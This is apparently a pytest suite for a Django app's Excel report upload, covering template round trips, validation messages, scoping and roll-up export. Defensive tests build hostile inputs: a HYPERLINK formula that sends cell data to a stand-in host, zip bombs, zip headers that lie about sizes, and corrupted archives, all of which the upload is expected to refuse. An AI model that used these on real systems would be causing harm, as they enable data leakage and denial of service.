"""The .xlsx round trip (template download, fill, upload), every kind of refusal, the officer's multi-unit
workbook, the roll-up export, the API and the access matrix of the Excel pages and endpoints."""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from rest_framework.test import APIClient

from giaoban.core.xlsx import table_to_xlsx
from giaoban.reporting import services, xlsx
from giaoban.reporting.models import DataValue, Submission
from tests.access import Endpoint, check, matrix

from .helpers import at

XLSX = xlsx.XLSX_CONTENT_TYPE
PERIOD = "2025W30"  # 21–27/07/2025: after the reorganisation, so communes N1 and N2 report it


@pytest.fixture
def secretary(make_user, tree):
    return make_user("secretary", tree.p1)


@pytest.fixture
def api(secretary):
    client = APIClient()
    client.force_authenticate(secretary)
    return client


def download(client, unit_code="15061", below=False) -> bytes:
    r = client.get(f"/reports/{unit_code}/W35/{PERIOD}/template.xlsx" + ("?below=1" if below else ""))
    assert r.status_code == 200, r.content[:300]
    assert r["Content-Type"] == XLSX
    return r.content


def fill(data: bytes, values: dict[str, object], narrative: dict[str, str] | None = None, sheet=0) -> bytes:
    """Type into the template's input cells with openpyxl, as Excel would save them."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[sheet] if isinstance(sheet, int) else wb[sheet]
    rows = {ws.cell(r, 2).value: r for r in range(1, ws.max_row + 1) if ws.cell(r, 2).value}
    for code, value in values.items():
        ws.cell(rows[code], 5).value = value
    for key, text in (narrative or {}).items():
        ws.cell(rows[key] + 1, 3).value = text
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def post_page(client, data: bytes, unit_code="15061", submit=False, name="bao_cao.xlsx", content_type=XLSX):
    payload = {"file": SimpleUploadedFile(name, data, content_type=content_type)}
    if submit:
        payload["submit"] = "1"
    return client.post(f"/reports/{unit_code}/W35/{PERIOD}/upload/", payload)


def post_api(api, data: bytes, submit=False, name="bao_cao.xlsx", content_type=XLSX):
    payload = {"file": SimpleUploadedFile(name, data, content_type=content_type)}
    if submit:
        payload["submit"] = "true"
    return api.post("/api/v1/templates/upload/", payload, format="multipart")


def saved(unit) -> dict[str, str]:
    s = Submission.objects.filter(unit=unit, period=PERIOD).first()
    return services.current_values(s) if s else {}


def edit_sheet_xml(data: bytes, change) -> bytes:
    """Rewrite the first sheet's XML (what openpyxl cannot write: cached formula results, error cells)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            dst.writestr(item, content)
    return out.getvalue()


def set_cell_xml(xml: str, cell: str, new: str) -> str:
    pattern = re.compile(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)')
    assert pattern.search(xml), cell
    return pattern.sub(new, xml, count=1)


# --- The round trip ----------------------------------------------------------------------------------


def test_it_writes_a_locked_template_with_validated_input_cells_and_hidden_metadata(client, tree, catalog, secretary):
    client.force_login(secretary)
    wb = load_workbook(io.BytesIO(download(client)))
    assert wb.sheetnames == ["15061", "_giaoban"]
    ws, meta = wb["15061"], wb["_giaoban"]
    assert meta.sheet_state == "veryHidden" and meta.protection.sheet
    assert wb.security.lockStructure
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    for expected in (
        "BÁO CÁO TUẦN BCĐ 35",
        "Xã Ngọc Lặc (mã 15061)",
        "mã W35, phiên bản 1",
        "2025W30, từ 21/07/2025 đến 27/07/2025",
        "HƯỚNG DẪN",
    ):
        assert expected in text
    assert [ws.cell(7, c).value for c in range(1, 7)] == ["STT", "Mã", "Chỉ tiêu", "Đơn vị tính", "Giá trị", "Yêu cầu"]
    assert [ws.cell(r, 2).value for r in range(8, 15)] == [
        "POSTS",
        "ORIGINAL",
        "FOLLOWERS",
        "VISITORS",
        "PEAK",
        "RATE",
        "NOTE",
    ]
    assert ws.protection.sheet and not ws.protection.password
    assert ws["E8"].protection.locked is False and ws["C8"].protection.locked is True and ws["B8"].protection.locked
    assert ws["C18"].protection.locked is False  # the first narrative section's input
    rules = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    assert (rules["E8"].type, rules["E8"].showErrorMessage, rules["E8"].prompt.startswith("Số bài đăng")) == (
        "whole",
        True,
        True,
    )
    assert (rules["E13"].type, rules["E13"].formula1, rules["E13"].formula2) == ("decimal", "0", "100")
    assert rules["E14"].type == "textLength"
    assert not any(dv.type == "list" for dv in rules.values())
    assert [[c.value for c in row] for row in meta.iter_rows(min_row=1, max_row=3)][:3] == [
        ["giaoban-xlsx-template", "1", None, None],
        ["form", "W35", None, None],
        ["period", PERIOD, None, None],
    ]
    assert [c.value for c in meta[6]] == ["15061", "15061", "1", "0"]


def test_it_round_trips_a_filled_template_and_submits_when_asked(client, tree, catalog, secretary):
    client.force_login(secretary)
    data = fill(
        download(client),
        {"POSTS": 279, "ORIGINAL": "56.000", "FOLLOWERS": 11008, "RATE": 85.5, "NOTE": "Tốt"},
        {"results": "Đăng 279 tin bài.", "proposals": "Không"},
    )
    r = post_page(client, data, submit=True)
    # 56.000 originals in a week is in the tens of thousands: the page asks to confirm before importing.
    html = r.content.decode()
    assert r.status_code == 400 and 'id="confirm-upload"' in html and "Số bài tự sản xuất" in html, html[:3000]
    token = re.search(r'name="token" value="([^"]+)"', html).group(1)
    r = client.post(f"/reports/15061/W35/{PERIOD}/upload/", {"token": token, "submit": "1"})
    assert r.status_code == 302 and r["Location"] == f"/reports/15061/W35/{PERIOD}/"
    s = Submission.objects.get(unit=tree.n1, period=PERIOD)
    assert s.status == "submitted" and s.submitted_by == secretary
    values = {
        dv.indicator.code: (dv.value, dv.text)
        for dv in DataValue.objects.filter(submission=s).select_related("indicator")
    }
    assert values == {
        "POSTS": (Decimal(279), ""),
        "ORIGINAL": (Decimal(56000), ""),
        "FOLLOWERS": (Decimal(11008), ""),
        "RATE": (Decimal("85.5"), ""),
        "NOTE": (None, "Tốt"),
    }
    assert s.narrative["results"] == "Đăng 279 tin bài." and s.narrative["proposals"] == "Không"


def test_it_saves_drafts_prefills_the_next_template_and_accepts_it_again(api, tree, catalog, secretary):
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    r = post_api(api, fill(data, {"POSTS": 12, "PEAK": "1.200"}))
    assert r.status_code == 200, r.json()
    body = r.json()
    assert body["submitted"] is False and body["values"] == 2
    assert body["sheets"][0]["unit"] == "15061" and body["sheets"][0]["status"] == "draft"
    again = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    ws = load_workbook(io.BytesIO(again)).worksheets[0]
    assert (ws["E8"].value, ws["E12"].value) == (12, 1200)
    r = post_api(api, fill(again, {"POSTS": None, "ORIGINAL": 3}), submit=False)
    assert r.status_code == 200
    assert saved(tree.n1) == {"ORIGINAL": "3", "PEAK": "1.200"}


def test_it_refuses_a_formula_cell_naming_it_never_reading_it_as_blank(api, tree, catalog, report):
    # A stored figure that a formula without a cached result (what openpyxl and scripts save) must not erase.
    report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 7, "ORIGINAL": 2}, status="draft")
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    no_cache = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E9", '<c r="E9"><f>1+1</f></c>'))
    r = post_api(api, no_cache)
    assert r.status_code == 400
    assert r.json()["extra"]["errors"] == [
        {"sheet": "15061", "cell": "E9", "message": "Số bài tự sản xuất: " + xlsx.formula_message()}
    ]
    assert "B7" not in xlsx.formula_message() and "công thức" in xlsx.formula_message()
    # Even with a cached result (Excel's own save), the cell is named and refused: type the value.
    cached = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E8", '<c r="E8"><f>100+23</f><v>123</v></c>'))
    r = post_api(api, cached)
    assert r.status_code == 400 and r.json()["extra"]["errors"][0]["cell"] == "E8"
    assert saved(tree.n1) == {"POSTS": "7", "ORIGINAL": "2"}


def test_it_refuses_a_formula_in_a_narrative_cell_and_a_formula_error(api, tree, catalog):
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    narrative_cell = next(
        f"C{r + 1}" for r in range(1, ws.max_row + 1) if ws.cell(r, 2).value and ws.cell(r, 1).value == "I"
    )
    bad = edit_sheet_xml(
        data,
        lambda x: set_cell_xml(
            set_cell_xml(x, "E9", '<c r="E9" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
            narrative_cell,
            f'<c r="{narrative_cell}" t="str"><f>HYPERLINK("http://x.example/?"&amp;E8)</f><v>x</v></c>',
        ),
    )
    r = post_api(api, bad)
    assert r.status_code == 400
    assert r.json()["extra"]["errors"] == [
        {"sheet": "15061", "cell": "E9", "message": "Ô chứa lỗi công thức (the cell holds a formula error)"},
        {"sheet": "15061", "cell": narrative_cell, "message": xlsx.formula_message()},
    ]
    assert not Submission.objects.exists()


# --- Bad cells ---------------------------------------------------------------------------------------


def test_it_names_every_bad_cell_with_its_reason_and_saves_nothing(client, tree, catalog, secretary):
    client.force_login(secretary)
    data = fill(
        download(client),
        {
            "POSTS": 2.5,  # decimal in an integer indicator
            "ORIGINAL": "nhiều",  # text in a number cell
            "FOLLOWERS": datetime(2025, 7, 1),  # a date
            "VISITORS": "12.5.6",  # a bad Vietnamese number
            "PEAK": True,
            "RATE": -5,  # below min
        },
    )
    r = post_page(client, data, submit=True)
    assert r.status_code == 400
    errors = r.context["errors"]
    assert [(e["sheet"], e["cell"]) for e in errors] == [("15061", f"E{n}") for n in range(8, 14)]
    messages = [e["message"] for e in errors]
    assert messages[0] == "Số bài đăng: Phải là số nguyên (must be a whole number)"
    assert messages[1] == "Số bài tự sản xuất: Không phải là số: 'nhiều' (not a number)"
    assert messages[2] == "Người theo dõi: Ô chứa ngày tháng, không phải số (a date, not a number)"
    assert messages[3] == "Lượt truy cập mỗi tháng: Không phải là số: '12.5.6' (not a number)"
    assert "TRUE/FALSE" in messages[4]
    assert messages[5] == "Tỷ lệ hài lòng: Không được nhỏ hơn 0 (must be at least 0)"
    page = r.content.decode()
    assert 'id="upload-errors"' in page and "E10" in page and "Tệp bị từ chối: 6 lỗi, chưa lưu gì" in page
    assert not Submission.objects.exists() and not DataValue.objects.exists()


def test_it_refuses_above_max_and_a_missing_required_figure_on_submit_only(api, tree, catalog):
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    r = post_api(api, fill(data, {"RATE": 150}), submit=True)
    assert r.status_code == 400
    assert r.json()["extra"]["errors"] == [
        {"sheet": "15061", "cell": "E8", "message": "Số bài đăng: Bắt buộc nhập khi nộp (required to submit)"},
        {"sheet": "15061", "cell": "E13", "message": "Tỷ lệ hài lòng: Không được lớn hơn 100 (must be at most 100)"},
    ]
    assert not Submission.objects.exists()
    r = post_api(api, fill(data, {"RATE": 100}))  # a draft may lack required figures
    assert r.status_code == 200 and saved(tree.n1) == {"RATE": "100"}


# --- Bad files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type", "body", "expected"),
    [
        ("a.xlsx", XLSX, b"not a workbook at all", "Tệp hỏng hoặc không phải tệp Excel .xlsx"),
        ("a.xlsx", XLSX, b"PK\x03\x04" + os.urandom(2000), "Tệp hỏng hoặc không phải tệp Excel .xlsx"),
        ("a.xls", "application/vnd.ms-excel", b"\xd0\xcf\x11\xe0", "Chỉ nhận tệp Excel .xlsx"),
        ("a.csv", "text/csv", b"unit,form\n", "Chỉ nhận tệp Excel .xlsx"),
        ("a.xlsx", "text/csv", b"unit,form\n", "Kiểu tệp không phải .xlsx"),
    ],
)
def test_it_refuses_a_corrupt_file_or_a_wrong_type(api, tree, catalog, name, content_type, body, expected):
    r = post_api(api, body, name=name, content_type=content_type)
    assert r.status_code == 400
    assert r.json()["message"].startswith(expected)
    assert r.json()["extra"]["errors"][0]["message"].startswith(expected)


def test_it_refuses_a_truncated_template(api, tree, catalog):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    r = post_api(api, data[: len(data) * 2 // 3])
    assert r.status_code == 400 and "Tệp hỏng" in r.json()["message"]
    assert not Submission.objects.exists()


def test_it_refuses_an_oversized_file_before_reading_it(client, api, tree, catalog, secretary):
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    padded = io.BytesIO()
    with zipfile.ZipFile(padded, "w") as z:
        for item in zipfile.ZipFile(io.BytesIO(data)).infolist():
            z.writestr(item, zipfile.ZipFile(io.BytesIO(data)).read(item.filename))
        z.writestr("xl/media/photo.bin", os.urandom(xlsx.MAX_BYTES))  # incompressible
    r = post_api(api, padded.getvalue())
    assert r.status_code == 413
    assert r.json()["message"].startswith("Tệp quá lớn: 5") and "tối đa 5,0 MB" in r.json()["message"]
    client.force_login(secretary)
    r = post_page(client, padded.getvalue())
    assert r.status_code == 413 and "Tệp quá lớn" in r.content.decode()
    assert not Submission.objects.exists()


def test_it_refuses_a_zip_bomb_from_the_declared_sizes(api, tree, catalog):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        src = zipfile.ZipFile(io.BytesIO(data))
        for item in src.infolist():
            z.writestr(item, src.read(item.filename))
        z.writestr("xl/media/zeros.bin", b"\0" * (120 * 1024 * 1024))  # 120 MB inside, ~120 KB outside
    assert len(bomb.getvalue()) < xlsx.MAX_BYTES
    r = post_api(api, bomb.getvalue())
    assert r.status_code == 413 and "zip bomb" in r.json()["message"]
    assert not Submission.objects.exists()


def lie_about_size(data: bytes, member: str, declared: int) -> bytes:
    """The archive with `member`'s uncompressed size rewritten to `declared` in its local header and in
    the central directory: what a zip bomb does to pass a check of the declared sizes."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    out = bytearray(data)
    struct.pack_into("<L", out, info.header_offset + 22, declared)
    name = member.encode()
    position = out.find(b"PK\x01\x02")
    while position != -1:
        length = struct.unpack_from("<H", out, position + 28)[0]
        if bytes(out[position + 46 : position + 46 + length]) == name:
            struct.pack_into("<L", out, position + 24, declared)
            break
        position = out.find(b"PK\x01\x02", position + 4)
    assert position != -1
    assert zipfile.ZipFile(io.BytesIO(bytes(out))).getinfo(member).file_size == declared
    return bytes(out)


def test_it_measures_each_member_while_reading_not_from_its_lying_header(api, tree, catalog, monkeypatch):
    monkeypatch.setattr(xlsx.limits, "MAX_UNCOMPRESSED", 8 * 1024 * 1024)
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    src = zipfile.ZipFile(io.BytesIO(data))
    sheet = src.read("xl/worksheets/sheet1.xml")
    # The sheet grows to 40 MB of blank cells inside a file of well under 1 MB, and says it is 14 KB.
    huge = sheet.replace(b"</sheetData>", b'<row r="9999">' + b"<c/>" * (10 * 1024 * 1024) + b"</row></sheetData>")
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item.filename, huge if item.filename == "xl/worksheets/sheet1.xml" else src.read(item))
    bomb = lie_about_size(packed.getvalue(), "xl/worksheets/sheet1.xml", 14 * 1024)
    assert len(bomb) < 1024 * 1024
    r = post_api(api, bomb)
    assert r.status_code == 413, r.content[:300]
    assert "zip bomb" in r.json()["message"] and "hơn 8,0 MB" in r.json()["message"]
    assert not Submission.objects.exists()


def test_it_refuses_a_member_whose_declared_size_lies_even_under_the_limit(api, tree, catalog):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    r = post_api(api, lie_about_size(data, "xl/worksheets/sheet1.xml", 100))
    assert r.status_code == 400 and r.json()["message"].startswith("Tệp hỏng")
    assert "xl/worksheets/sheet1.xml" in r.json()["message"]


def test_it_refuses_a_crc_corrupted_or_bit_flipped_archive_with_a_message(api, tree, catalog):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
    bad_crc = bytearray(data)
    struct.pack_into("<L", bad_crc, info.header_offset + 14, info.CRC ^ 0xFFFF)  # local header only
    central = bytes(bad_crc).find(struct.pack("<L", info.CRC), info.header_offset + 30 + info.compress_size)
    struct.pack_into("<L", bad_crc, central, info.CRC ^ 0xFFFF)
    flipped = bytearray(data)
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start + 10, start + info.compress_size - 10, 97):
        flipped[i] ^= 0x55
    for body in (bytes(bad_crc), bytes(flipped), b"not a zip at all", b"PK\x03\x04" + b"\0" * 500):
        r = post_api(api, body)
        assert r.status_code == 400, r.content[:200]
        assert r.json()["message"].startswith("Tệp hỏng hoặc không phải tệp Excel .xlsx")
        assert r.json()["extra"]["errors"][0]["message"] == r.json()["message"]
    assert not Submission.objects.exists()


# --- Metadata, scope, locks, conflicts --------------------------------------------------------------


def _set_meta(data: bytes, row: int, col: int, value) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    wb["_giaoban"].cell(row, col).value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_it_answers_an_unknown_and_an_out_of_scope_unit_alike(tree, catalog, make_user):
    admin = APIClient()
    admin.force_authenticate(make_user("system_admin", tree.vn))
    other = APIClient()
    other.force_authenticate(make_user("secretary", tree.p2))
    data = fill(admin.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    out_of_scope = post_api(other, data).json()["extra"]["errors"]
    unknown = post_api(other, _set_meta(data, 6, 2, "99999")).json()["extra"]["errors"]
    assert out_of_scope == [
        {
            "sheet": "15061",
            "cell": None,
            "message": "Không tìm thấy đơn vị '15061' trong phạm vi của bạn (unit not found in your scope)",
        }
    ]
    assert unknown[0]["message"] == out_of_scope[0]["message"].replace("15061", "99999")
    assert not Submission.objects.exists()


@pytest.mark.parametrize(
    ("row", "col", "value", "expected"),
    [
        (2, 2, "NOPE", "Không tìm thấy biểu mẫu 'NOPE'"),
        (3, 2, "2025W99", "Mã kỳ không hợp lệ"),
        (6, 3, "7", "Mẫu dùng phiên bản 7 của biểu mẫu, báo cáo này dùng phiên bản 1"),
        (1, 1, "something else", "Tệp không phải mẫu nhập liệu của giaoban"),
    ],
)
def test_it_refuses_wrong_metadata(api, tree, catalog, row, col, value, expected):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    r = post_api(api, _set_meta(data, row, col, value))
    assert r.status_code == 400
    assert expected in r.json()["message"] or expected in r.json()["extra"]["errors"][0]["message"]
    assert not Submission.objects.exists()


def test_it_refuses_a_template_of_an_older_form_version_and_another_period_on_a_page(client, tree, catalog, secretary):
    client.force_login(secretary)
    data = fill(download(client), {"POSTS": 1})
    r = client.post(
        "/reports/15061/W35/2025W31/upload/", {"file": SimpleUploadedFile("a.xlsx", data, content_type=XLSX)}
    )
    assert r.status_code == 400 and "không phải của trang này" in r.content.decode()
    services.reportform_update(form=catalog.weekly, indicators=[catalog.posts, catalog.note])
    r = post_page(client, data)
    assert r.status_code == 400
    assert "Mẫu dùng phiên bản 1 của biểu mẫu, báo cáo này dùng phiên bản 2" in r.context["errors"][0]["message"]


def test_it_refuses_a_structurally_edited_sheet(api, tree, catalog):
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    ws.protection.sheet = False
    ws.delete_rows(9)
    ws["E8"] = 5
    out = io.BytesIO()
    wb.save(out)
    r = post_api(api, out.getvalue())
    assert r.status_code == 400
    error = r.json()["extra"]["errors"][0]
    assert (error["sheet"], error["cell"]) == ("15061", "B9") and "sửa cấu trúc" in error["message"]


@pytest.mark.parametrize("status", ["submitted", "approved"])
def test_it_refuses_a_locked_report(api, tree, catalog, report, status):
    report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 7}, status=status)
    data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
    r = post_api(api, fill(data, {"POSTS": 8}))
    assert r.status_code == 400
    message = r.json()["extra"]["errors"][0]["message"]
    assert f"đã {'nộp' if status == 'submitted' else 'duyệt'}" in message and "bị khóa" in message
    assert saved(tree.n1) == {"POSTS": "7"}


def test_it_refuses_to_overwrite_a_report_changed_since_the_download(api, tree, catalog, report, make_user):
    s = report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 7}, status="draft")
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 8})
    colleague = make_user("secretary", tree.n1, username="thuky_xa", first_name="Lan")
    services.submission_save_draft(
        submission=s, values={"POSTS": 9}, expected_version=s.version, actor=colleague, at=at(2025, 7, 28, 10)
    )
    r = post_api(api, data)
    assert r.status_code == 409
    message = r.json()["extra"]["errors"][0]["message"]
    assert "thuky_xa" in message and "10:00 28/07/2025" in message and "sau khi tải mẫu" in message
    assert saved(tree.n1) == {"POSTS": "9"}


# --- The officer's workbook ---------------------------------------------------------------------------


def test_it_saves_a_multi_unit_workbook_all_or_nothing(client, tree, catalog, secretary):
    client.force_login(secretary)
    data = download(client, "38", below=True)
    assert load_workbook(io.BytesIO(data)).sheetnames == ["15061 Xã Ngọc Lặc", "15085 Xã Thạch Lập", "_giaoban"]
    good_and_bad = fill(fill(data, {"POSTS": 10}, sheet=0), {"POSTS": "mười"}, sheet=1)
    r = post_page(client, good_and_bad, unit_code="38", submit=True)
    assert r.status_code == 400
    assert [(e["sheet"], e["cell"]) for e in r.context["errors"]] == [("15085 Xã Thạch Lập", "E8")]
    assert not Submission.objects.exists()
    both = fill(fill(data, {"POSTS": 10}, sheet=0), {"POSTS": 20, "RATE": "99,5"}, sheet=1)
    r = post_page(client, both, unit_code="38", submit=True)
    assert r.status_code == 302 and r["Location"] == f"/reports/38/W35/{PERIOD}/status/"
    assert saved(tree.n1) == {"POSTS": "10"} and saved(tree.n2) == {"POSTS": "20", "RATE": "99,5"}
    assert set(Submission.objects.values_list("status", flat=True)) == {"submitted"}
    # Both are submitted now: nothing is left to enter below the province.
    r = client.get(f"/reports/38/W35/{PERIOD}/template.xlsx?below=1")
    assert r.status_code == 302


def test_it_keeps_the_upload_cost_per_sheet_not_per_cell(api, tree, catalog):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(unit_code: str, values: dict) -> int:
        data = api.get(f"/api/v1/templates/?unit={unit_code}&form=W35&period={PERIOD}").content
        with CaptureQueriesContext(connection) as ctx:
            assert post_api(api, fill(data, values), submit=True).status_code == 200
        return len(ctx.captured_queries)

    one_figure = queries("15061", {"POSTS": 3})
    six_figures = queries("15085", {c: 5 for c in ("POSTS", "ORIGINAL", "FOLLOWERS", "VISITORS", "PEAK", "RATE")})
    assert one_figure == six_figures <= 30


def test_it_limits_the_number_of_sheets(api, tree, catalog, monkeypatch):
    data = fill(api.get(f"/api/v1/templates/?unit=38&form=W35&period={PERIOD}&below=1").content, {"POSTS": 1})
    monkeypatch.setattr(xlsx.limits, "MAX_SHEETS", 1)
    r = api.get(f"/api/v1/templates/?unit=38&form=W35&period={PERIOD}&below=1")
    assert r.status_code == 400 and r.json()["message"].startswith("Quá 1 đơn vị cho một tệp")
    r = post_api(api, data)
    assert r.status_code == 413 and "quá 1 trang tính" in r.json()["message"]
    assert not Submission.objects.exists()


def test_it_links_the_excel_pages_from_the_report_pages(client, tree, catalog, secretary):
    client.force_login(secretary)
    entry = client.get(f"/reports/15061/W35/{PERIOD}/").content.decode()
    assert f'href="/reports/15061/W35/{PERIOD}/template.xlsx">Tải mẫu Excel' in entry
    assert f'href="/reports/15061/W35/{PERIOD}/upload/">Nộp bằng tệp Excel' in entry
    status = client.get(f"/reports/38/W35/{PERIOD}/status/").content.decode()
    assert f'href="/reports/38/W35/{PERIOD}/template.xlsx?below=1">Tải mẫu nhiều đơn vị' in status
    page = client.get(f"/reports/38/W35/{PERIOD}/upload/")
    assert page.status_code == 200 and 'enctype="multipart/form-data"' in page.content.decode()
    assert "Nộp luôn" in page.content.decode()


# --- Flat tables --------------------------------------------------------------------------------------


def test_it_imports_a_flat_table_of_figures_and_names_bad_cells(api, tree, catalog):
    rows = [["15061", "W35", PERIOD, "POSTS", 4], ["15085", "W35", PERIOD, "POSTS", "4.000"]]
    data = table_to_xlsx([("Số liệu", list(services.IMPORT_COLUMNS), rows)], title="Nhập số liệu")
    sheet, cols, read = xlsx.read_table(data)
    assert cols == {"unit": 0, "form": 1, "period": 2, "indicator": 3, "value": 4}
    assert (sheet, read[0]) == (
        "Số liệu",
        (4, {"unit": "15061", "form": "W35", "period": PERIOD, "indicator": "POSTS", "value": 4.0}),
    )
    r = post_api(api, data, submit=True)
    assert r.status_code == 200 and r.json()["values"] == 2
    assert saved(tree.n2) == {"POSTS": "4.000"}
    bad = table_to_xlsx([("Số liệu", list(services.IMPORT_COLUMNS), [["15061", "W35", "2025W31", "RATE", 101]])])
    r = post_api(api, bad)
    assert r.status_code == 400
    assert r.json()["extra"]["errors"][0] == {
        "sheet": "Số liệu",
        "cell": "E2",
        "message": "Không được lớn hơn 100 (must be at most 100)",
    }


# --- Roll-up export -----------------------------------------------------------------------------------


def test_it_exports_the_rollup_table_as_xlsx_from_the_page_and_the_api(client, api, tree, catalog, report, secretary):
    report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 56000}, when=at(2025, 7, 28))
    report(tree.n2, catalog.weekly, PERIOD, {"POSTS": 279}, when=at(2025, 8, 5))
    client.force_login(secretary)
    page = client.get(f"/reports/rollup/?indicator=POSTS&unit=38&period={PERIOD}").content.decode()
    assert f'href="/reports/rollup.xlsx?indicator=POSTS&amp;unit=38&amp;period={PERIOD}"' in page
    for response in (
        client.get(f"/reports/rollup.xlsx?indicator=POSTS&unit=38&period={PERIOD}"),
        api.get(f"/api/v1/rollup.xlsx?indicator=POSTS&unit=38&period={PERIOD}"),
    ):
        assert response.status_code == 200 and response["Content-Type"] == XLSX
        assert f'filename="tong_hop_POSTS_38_{PERIOD}.xlsx"' in response["Content-Disposition"]
        ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
        rows = [list(r) for r in ws.iter_rows(values_only=True)]
        assert rows[0][0] == "Số bài đăng (POSTS) — Tỉnh Thanh Hóa — kỳ tuần 30/2025 (21/07–27/07)"
        assert rows[2] == [
            "Mã đơn vị",
            "Đơn vị",
            "Giá trị",
            "Đơn vị tính",
            "Phải nộp",
            "Đã nộp",
            "Đúng hạn",
            "Muộn",
            "Chưa nộp",
        ]
        body = {r[0]: r[1:] for r in rows[3:]}
        assert body["15061"] == ["Xã Ngọc Lặc", 56000, "bài", 1, 1, 1, 0, 0]
        assert body["15085"] == ["Xã Thạch Lập", 279, "bài", 1, 1, 0, 1, 0]
        assert body["38"] == ["Toàn Tỉnh Thanh Hóa", 56279, "bài", 2, 2, 1, 1, 0]
        assert ws["C4"].number_format == "#,##0"


def test_it_documents_the_excel_endpoints_in_the_schema(api):
    schema = api.get("/api/schema/?format=json").json()
    for path, method in (
        ("/api/v1/templates/", "get"),
        ("/api/v1/templates/upload/", "post"),
        ("/api/v1/rollup.xlsx", "get"),
    ):
        responses = schema["paths"][path][method]["responses"]
        assert {"200", "400", "401", "404"} <= set(responses), path
    upload = schema["paths"]["/api/v1/templates/upload/"]["post"]
    assert "multipart/form-data" in upload["requestBody"]["content"] and "409" in upload["responses"]


# --- Access -------------------------------------------------------------------------------------------


class World:
    def __init__(self, tree, catalog, report):
        self.unit = {"in": tree.n1, "out": tree.q1}
        for unit in (tree.n1, tree.q1):
            report(unit, catalog.weekly, PERIOD, {"POSTS": 1}, status="draft")


ENDPOINTS = [
    Endpoint("xlsx-template", lambda w, s: f"/reports/{w.unit[s].code}/W35/{PERIOD}/template.xlsx", action="enter"),
    Endpoint("xlsx-upload-page", lambda w, s: f"/reports/{w.unit[s].code}/W35/{PERIOD}/upload/", action="enter"),
    Endpoint("rollup-xlsx", lambda w, s: f"/reports/rollup.xlsx?indicator=POSTS&unit={w.unit[s].code}&period={PERIOD}"),
    Endpoint(
        "api-xlsx-template",
        lambda w, s: f"/api/v1/templates/?unit={w.unit[s].code}&form=W35&period={PERIOD}",
        api=True,
        action="enter",
    ),
    Endpoint(
        "api-rollup-xlsx",
        lambda w, s: f"/api/v1/rollup.xlsx?indicator=POSTS&unit={w.unit[s].code}&period={PERIOD}",
        api=True,
    ),
]


@pytest.mark.parametrize(("endpoint", "role", "scope"), matrix(ENDPOINTS))
def test_it_scopes_every_excel_page_and_endpoint(client, tree, catalog, report, make_user, endpoint, role, scope):
    world = World(tree, catalog, report)
    user = make_user(role, tree.vn if role == "system_admin" else tree.p1)
    check(client, world, endpoint, role, scope, user)


@pytest.mark.parametrize("role", ["viewer", "approver", "member", "unit_admin"])
def test_it_does_not_let_roles_without_entry_upload(client, api, tree, catalog, make_user, role):
    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
    client.force_login(make_user(role, tree.p1))
    assert post_page(client, data).status_code == 404
    other = APIClient()
    other.force_authenticate(make_user(role, tree.p1))
    r = post_api(other, data)
    assert r.status_code == 400 and "trong phạm vi của bạn" in r.json()["extra"]["errors"][0]["message"]
    assert not Submission.objects.exists()


